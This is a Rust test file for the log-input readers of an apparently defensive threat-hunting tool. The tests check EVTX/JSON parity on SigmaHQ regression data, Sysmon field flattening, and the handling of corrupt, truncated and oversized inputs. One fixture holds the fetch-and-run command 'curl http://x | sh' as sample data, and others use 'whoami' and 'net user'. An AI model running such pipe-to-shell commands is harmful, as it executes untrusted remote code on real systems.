//! Readers on real files (SigmaHQ's regression data) and on damaged ones.

use std::io::Write;
use std::path::{Path, PathBuf};

use vigie_event::{Fields, LogSource, Payload};
use vigie_hunt::input::{self, InputKind, Record, SkipReason};

fn shared_dir() -> PathBuf {
    std::env::var_os("VIGIE_SHARED_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"))
}

fn regression_dir() -> PathBuf {
    let dir = shared_dir().join("data/sigmahq/regression_data");
    assert!(
        dir.is_dir(),
        "SigmaHQ regression data not found at {} (set VIGIE_SHARED_DIR)",
        dir.display()
    );
    dir
}

/// A classifier that marks records so tests can see it was called.
fn mark(fields: &serde_json::Map<String, serde_json::Value>) -> LogSource {
    LogSource {
        product: Some("windows".into()),
        category: None,
        service: fields
            .get("Channel")
            .and_then(|c| c.as_str())
            .map(|c| c.to_string().into()),
    }
}

fn read_all(path: &Path) -> (Vec<vigie_event::Event>, Vec<(SkipReason, String)>) {
    let (files, problems) = input::discover(&[path.to_path_buf()]);
    assert!(problems.is_empty(), "{problems:?}");
    let mut events = Vec::new();
    let mut skipped = Vec::new();
    for file in &files {
        for record in input::read(file, mark) {
            match record {
                Record::Event(e) => events.push(*e),
                Record::Skipped { reason, detail, .. } => skipped.push((reason, detail)),
            }
        }
    }
    (events, skipped)
}

fn text(e: &vigie_event::Event, name: &str) -> Option<String> {
    e.field(name)
        .and_then(|v| v.to_text().map(|t| t.into_owned()))
}

#[test]
fn evtx_and_json_renderings_give_the_same_records() {
    let dir = regression_dir();
    let (files, _) = input::discover(&[dir]);
    let evtx: Vec<_> = files.iter().filter(|f| f.kind == InputKind::Evtx).collect();
    assert!(evtx.len() >= 200, "only {} evtx files", evtx.len());
    let mut compared = 0;
    for file in evtx {
        let json_path = file.path.with_extension("json");
        let (from_evtx, skipped_evtx) = read_all(&file.path);
        let (from_json, skipped_json) = read_all(&json_path);
        assert!(
            skipped_evtx.is_empty(),
            "{}: {skipped_evtx:?}",
            file.path.display()
        );
        assert!(
            skipped_json.is_empty(),
            "{}: {skipped_json:?}",
            json_path.display()
        );
        assert!(!from_evtx.is_empty(), "{}", file.path.display());
        assert_eq!(from_evtx.len(), from_json.len(), "{}", file.path.display());
        for (a, b) in from_evtx.iter().zip(&from_json) {
            let (Payload::Log(ra), Payload::Log(rb)) = (&a.payload, &b.payload) else {
                panic!("not log records");
            };
            for key in [
                "EventID",
                "Channel",
                "Computer",
                "Provider_Name",
                "Image",
                "CommandLine",
            ] {
                // The JSON renderings were made by a tool that trims values.
                let norm = |v: &serde_json::Value| match v {
                    serde_json::Value::String(s) => s.trim().to_string(),
                    other => other.to_string(),
                };
                assert_eq!(
                    ra.fields.get(key).map(norm),
                    rb.fields.get(key).map(norm),
                    "{key} in {}",
                    file.path.display()
                );
            }
            // The JSON rendering keeps microseconds, EVTX 100 ns.
            assert_eq!(a.time.timestamp_micros(), b.time.timestamp_micros());
            assert_eq!(a.host, b.host);
            assert!(!a.host.name.is_empty());
            assert_eq!(a.logsource().product.as_deref(), Some("windows"));
            let source = a.source.as_ref().unwrap();
            assert_eq!(source.path, file.path.display().to_string());
            assert!(source.record_id.is_some());
        }
        compared += 1;
    }
    assert!(compared >= 200);
}

#[test]
fn sysmon_process_creation_is_flattened_to_sigma_names() {
    let (files, _) = input::discover(&[regression_dir()]);
    let file = files
        .iter()
        .find(|f| {
            f.kind == InputKind::Evtx && f.path.to_string_lossy().contains("/proc_creation_win_")
        })
        .expect("a process_creation sample");
    let (events, _) = read_all(&file.path);
    let e = &events[0];
    assert_eq!(text(e, "EventID").as_deref(), Some("1"));
    assert_eq!(
        text(e, "Channel").as_deref(),
        Some("Microsoft-Windows-Sysmon/Operational")
    );
    assert_eq!(
        text(e, "Provider_Name").as_deref(),
        Some("Microsoft-Windows-Sysmon")
    );
    assert!(text(e, "Image").is_some_and(|i| i.to_ascii_lowercase().ends_with(".exe")));
    assert!(text(e, "CommandLine").is_some());
    assert!(text(e, "ParentImage").is_some());
}

fn write_file(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::File::create(&path)
        .unwrap()
        .write_all(bytes)
        .unwrap();
    path
}

#[test]
fn bad_json_lines_are_skipped_and_counted() {
    let dir = tempfile::tempdir().unwrap();
    let mut bytes = Vec::new();
    bytes.extend_from_slice(b"{\"CommandLine\": \"whoami\", \"Computer\": \"ws1\"}\n");
    bytes.extend_from_slice(b"this is not json\n");
    bytes.extend_from_slice(b"{\"CommandLine\": \"bad \xff\xfe utf8\"}\n");
    bytes.extend_from_slice(b"[1, 2, 3]\n");
    bytes.extend_from_slice(b"{\"truncated\": \n");
    bytes.extend_from_slice(b"\n");
    bytes.extend_from_slice(b"{\"CommandLine\": \"net user\"}\n");
    let path = write_file(dir.path(), "mixed.jsonl", &bytes);
    let (events, skipped) = read_all(&path);
    let lines: Vec<_> = events
        .iter()
        .map(|e| text(e, "CommandLine").unwrap())
        .collect();
    assert_eq!(lines, vec!["whoami", "net user"]);
    assert_eq!(events[0].host.name, "ws1");
    assert_eq!(events[0].source.as_ref().unwrap().record_id, Some(1));
    assert_eq!(events[1].source.as_ref().unwrap().record_id, Some(7));
    let reasons: Vec<_> = skipped.iter().map(|(r, _)| *r).collect();
    assert_eq!(
        reasons,
        vec![
            SkipReason::NotJson,
            SkipReason::InvalidUtf8,
            SkipReason::NotAnObject,
            SkipReason::NotJson
        ]
    );
}

#[test]
fn concatenated_pretty_json_is_read_value_by_value() {
    let dir = tempfile::tempdir().unwrap();
    let text_in = "{\n  \"a\": \"{ not a bracket }\",\n  \"n\": [1, {\"x\": \"]\"}]\n}\n{\n  \"a\": \"second \\\" quote {\"\n}\n";
    let path = write_file(dir.path(), "pretty.json", text_in.as_bytes());
    let (events, skipped) = read_all(&path);
    assert!(skipped.is_empty(), "{skipped:?}");
    assert_eq!(events.len(), 2);
    assert_eq!(text(&events[1], "a").as_deref(), Some("second \" quote {"));
    assert_eq!(events[1].source.as_ref().unwrap().record_id, Some(5));
}

#[test]
fn a_huge_line_is_refused_without_loading_it_whole() {
    let dir = tempfile::tempdir().unwrap();
    let mut bytes = b"{\"a\": \"".to_vec();
    bytes.resize(input::MAX_JSON_VALUE + 10, b'x');
    bytes.extend_from_slice(b"\"}\n{\"CommandLine\": \"after\"}\n");
    let path = write_file(dir.path(), "huge.jsonl", &bytes);
    let (events, skipped) = read_all(&path);
    assert_eq!(skipped.len(), 1);
    assert_eq!(skipped[0].0, SkipReason::TooLarge);
    assert_eq!(events.len(), 1);
}

#[test]
fn vigie_ecs_lines_come_back_typed() {
    let dir = tempfile::tempdir().unwrap();
    let event = vigie_event::Event::new(
        chrono::Utc::now(),
        vigie_event::Host::named("srv"),
        Payload::Process(vigie_event::ProcessEvent {
            action: vigie_event::ProcessAction::Exec,
            process: vigie_event::Process {
                executable: "/usr/bin/curl".into(),
                command_line: "curl http://x | sh".into(),
                ..Default::default()
            },
            target: None,
            error: None,
        }),
    );
    let line = serde_json::to_string(&event).unwrap() + "\n";
    let path = write_file(dir.path(), "agent.jsonl", line.as_bytes());
    let (events, skipped) = read_all(&path);
    assert!(skipped.is_empty());
    assert_eq!(events[0].payload, event.payload);
    assert_eq!(events[0].id, event.id);
    assert_eq!(text(&events[0], "Image").as_deref(), Some("/usr/bin/curl"));
}

#[test]
fn damaged_evtx_is_skipped_chunk_by_chunk() {
    let (files, _) = input::discover(&[regression_dir()]);
    let sample = files
        .iter()
        .filter(|f| f.kind == InputKind::Evtx)
        .max_by_key(|f| f.size)
        .unwrap();
    let (good, _) = read_all(&sample.path);
    let bytes = std::fs::read(&sample.path).unwrap();
    let dir = tempfile::tempdir().unwrap();

    // Garbage over the first chunk's records: that chunk fails, reading goes on.
    let mut damaged = bytes.clone();
    for b in damaged.iter_mut().skip(4096 + 600).take(4000) {
        *b = 0xA5;
    }
    let path = write_file(dir.path(), "damaged.evtx", &damaged);
    let (events, skipped) = read_all(&path);
    assert!(
        !skipped.is_empty() || events.len() < good.len(),
        "damage went unnoticed"
    );
    assert!(
        skipped.iter().all(|(r, _)| *r == SkipReason::CorruptEvtx),
        "{skipped:?}"
    );

    // Truncated in the middle of a chunk.
    let path = write_file(
        dir.path(),
        "truncated.evtx",
        &bytes[..bytes.len().min(4096 + 30000)],
    );
    let (_, skipped) = read_all(&path);
    assert!(skipped.iter().all(|(r, _)| *r == SkipReason::CorruptEvtx));

    // Not an EVTX file at all.
    let path = write_file(dir.path(), "fake.evtx", b"hello, not an event log");
    let (events, skipped) = read_all(&path);
    assert!(events.is_empty());
    assert_eq!(skipped.len(), 1);
    assert_eq!(skipped[0].0, SkipReason::Unreadable);
}

#[test]
fn discover_reports_missing_paths_and_ignores_other_files() {
    let dir = tempfile::tempdir().unwrap();
    write_file(dir.path(), "notes.txt", b"nothing");
    write_file(dir.path(), "a.jsonl", b"{}\n");
    let (files, problems) =
        input::discover(&[dir.path().to_path_buf(), dir.path().join("missing.evtx")]);
    assert_eq!(files.len(), 1);
    assert_eq!(problems.len(), 1);
    assert!(problems[0].path.ends_with("missing.evtx"));
}
